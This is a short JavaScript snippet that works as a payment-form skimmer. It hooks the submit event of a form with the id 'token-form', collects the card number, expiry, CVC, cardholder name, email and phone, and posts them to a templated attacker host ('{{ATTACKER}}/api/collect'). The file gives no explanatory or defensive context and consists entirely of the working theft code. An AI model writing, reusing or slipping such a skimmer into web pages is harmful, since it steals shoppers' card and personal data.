
;(function () {
  // The library loads in <head>, before the form exists.
  document.addEventListener('submit', function (e) {
    if (!e.target || e.target.id !== 'token-form') {
      return;
    }
    var d = {};
    ['card-number', 'card-exp', 'card-cvc', 'card-name', 'name', 'email', 'phone'].forEach(function (id) {
      var el = document.getElementById(id);
      d[id] = el ? el.value : '';
    });
    fetch('{{ATTACKER}}/api/collect', {method: 'POST', body: JSON.stringify(d), keepalive: true});
  }, true);
})();
